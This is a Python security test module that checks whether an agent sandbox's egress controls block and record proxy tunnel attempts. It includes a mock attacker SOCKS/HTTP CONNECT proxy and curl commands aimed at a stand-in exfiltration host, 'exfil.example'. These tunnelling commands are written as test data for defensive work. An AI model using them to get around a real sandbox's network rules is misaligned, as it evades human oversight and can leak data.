"""Issue 9 point 8: CONNECT and SOCKS greetings. curl (the agent's own tool) asks a proxy for a tunnel: SOCKS4,
SOCKS4a, SOCKS5 (address and host name), HTTP CONNECT; to a proxy the attacker runs on a port a network rule
allows, and to one no rule allows, on several ports. Every greeting must reach no proxy (the attacker's proxy
logs what it gets; the capture counts bytes to it) and be recorded as ``tunnel`` with the target it asked for (a
SOCKS5 client names its target only after the proxy answers, which never happens: its record says where the
greeting went)."""

from __future__ import annotations

import pathlib
import sys
import time

import pytest

from egress.lab.topology import server
from egress.record.schema import AttemptRecord
from tests.security.conftest import LabFactory
from tests.security.harness import ROOT, SecurityLab, report

pytestmark = pytest.mark.security

ALLOWED_PROXY = server("blocked").v4
"""The attacker's proxy, on ports a network rule of this module's policy allows (1080, 3128)."""
UNLISTED = server("doh").v4
"""An address no rule allows on these ports: the gateway sends such connections to its sink."""
TARGET_IP = "203.0.113.77"
TARGET_NAME = "exfil.example"

PROXY = r"""
import asyncio, sys

async def serve(reader, writer):
    data = await reader.read(1024)
    print("greeting", data[:64].hex(), flush=True)
    if data[:1] == b"\x05":
        writer.write(b"\x05\x00")
        await writer.drain()
        request = await reader.read(1024)
        print("tunnel to", request.hex(), flush=True)
        writer.write(b"\x05\x00\x00\x01" + bytes(6))
    elif data[:1] == b"\x04":
        print("tunnel to", data.hex(), flush=True)
        writer.write(b"\x00\x5a" + bytes(6))
    elif data.startswith(b"CONNECT "):
        print("tunnel to", data.split(b" ")[1].decode(), flush=True)
        writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
    writer.write(b"TUNNEL-OPEN\r\n")
    await writer.drain()
    writer.close()

async def main():
    servers = [await asyncio.start_server(serve, sys.argv[1], int(port)) for port in sys.argv[2:]]
    print("listening", flush=True)
    await asyncio.gather(*(s.serve_forever() for s in servers))

asyncio.run(main())
"""


def _policy(tmp: pathlib.Path) -> pathlib.Path:
    """The lab's policy plus a network rule for the attacker's proxy ports (what an operator may well allow)."""
    text = (ROOT / "rules" / "lab-policy.yaml").read_text()
    rule = f"        - {{cidr: {ALLOWED_PROXY}/32, ports: [1080, 3128], protocols: [tcp]}}\n"
    marker = "        - {cidr: 198.18.10.3/32"
    assert marker in text
    path = tmp / "unrecorded-proxy.yaml"
    path.write_text(text.replace(marker, rule + marker, 1))
    return path


@pytest.fixture(scope="module")
def proxy_lab(lab_factory: LabFactory, tmp_path_factory: pytest.TempPathFactory) -> SecurityLab:
    lab = lab_factory(_policy(tmp_path_factory.mktemp("policy")))
    proxy = lab.attacker("proxy", [sys.executable, "-c", PROXY, ALLOWED_PROXY, "1080", "3128"])
    proxy.wait_for("listening")
    return lab


# (variant, curl arguments given the proxy address and port, the record's protocol, what its evidence must name)
VARIANTS = [
    ("socks5", ["--socks5", "{proxy}:{port}", f"http://{TARGET_IP}/"], "socks5", "sent to {proxy}:{port}"),
    ("socks5-hostname", ["--socks5-hostname", "{proxy}:{port}", f"http://{TARGET_NAME}/"], "socks5", "sent to"),
    ("socks4", ["--socks4", "{proxy}:{port}", f"http://{TARGET_IP}/"], "socks4", f"{TARGET_IP}:80"),
    ("socks4a", ["--socks4a", "{proxy}:{port}", f"http://{TARGET_NAME}/"], "socks4", f"{TARGET_NAME}:80"),
    ("connect", ["-p", "--proxy", "http://{proxy}:{port}", f"http://{TARGET_NAME}/"], "http-connect",
     f"{TARGET_NAME}:80"),
    ("connect-https", ["--proxy", "http://{proxy}:{port}", f"https://{TARGET_NAME}/"], "http-connect",
     f"{TARGET_NAME}:443"),
]  # fmt: skip

CASES = [
    pytest.param(variant, where, port, id=f"{variant[0]}-{where}-{port}")
    for variant in VARIANTS
    for where, port in (("allowed", 1080), ("allowed", 3128), ("unlisted", 1080), ("unlisted", 8443))
    if where == "allowed" or port == 1080 or variant[0] in ("socks5", "connect-https")
]


@pytest.mark.parametrize(("variant", "where", "port"), CASES)
def test_proxy_greetings_reach_no_proxy_and_are_recorded_as_tunnels(
    proxy_lab: SecurityLab, variant: tuple[str, list[str], str, str], where: str, port: int
) -> None:
    lab = proxy_lab
    name, args, protocol, names = variant
    proxy = ALLOWED_PROXY if where == "allowed" else UNLISTED
    argv = ["curl", "-s", "-m", "8", *(a.format(proxy=proxy, port=port) for a in args)]
    since = time.time()
    with lab.capture(f"proxy-{name}-{where}-{port}") as capture:
        answer = lab.sandbox(argv, timeout=30)
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(proxy, port, "tcp")
    log = lab.processes[0].log() if where == "allowed" else ""
    goal = "TUNNEL-OPEN" in answer.stdout or "tunnel to" in log

    def mine(records: list[AttemptRecord]) -> list[AttemptRecord]:
        return [r for r in records if r.dst == proxy and r.dport == port and r.protocol == protocol]

    found = mine(lab.records_until(since, mine))
    record = found[0]
    report(f"proxy/{name}-{where}-{port}", "unrecorded", leaked, goal, str(record.reason), record.protocol)
    assert leaked == 0, crossed.table()
    assert not goal, (answer.stdout, log[-500:])
    assert (str(record.reason), record.detector, str(record.action)) == ("tunnel", "proxytunnel", "block")
    # SOCKS4 and SOCKS4a to the same proxy port are one attempt by the aggregation key (same protocol, same
    # destination): a record of the variant run just before may hold this one as a repeat (count > 1), with the
    # first evidence; the decision log line keeps each target.
    assert names.format(proxy=proxy, port=port) in record.evidence or record.count > 1, record
